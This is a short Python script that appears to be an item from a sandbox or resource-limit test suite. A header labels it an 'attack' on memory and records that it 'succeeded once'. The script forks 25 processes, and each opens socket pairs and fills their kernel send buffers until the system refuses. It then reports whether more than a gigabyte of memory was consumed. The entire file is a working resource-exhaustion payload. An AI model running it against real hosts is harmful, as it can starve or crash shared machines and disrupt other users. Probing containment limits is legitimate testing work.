# /// attack
# name = "memory in sockets of many"
# threat = "memory"
# tries = "Fills as many sockets as many processes may have."
# walls = true
# succeeded_once = true
# ///

import os, socket, time

read, write = os.pipe()


def fill():
    total, pairs = 0, []
    try:
        while True:
            pairs.append(socket.socketpair())
            for one in pairs[-1]:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**18)
                one.setblocking(False)
                try:
                    while True:
                        total += one.send(bytes(2**16))
                except BlockingIOError:
                    pass
    except OSError:
        pass
    os.write(write, b"%20d" % total)
    time.sleep(30)
    os._exit(0)


started = 0
for _ in range(25):
    if os.fork() == 0:
        fill()
    started += 1
total = sum(int(os.read(read, 20)) for _ in range(started))
if total > 2**30:
    print("SIGN", total)
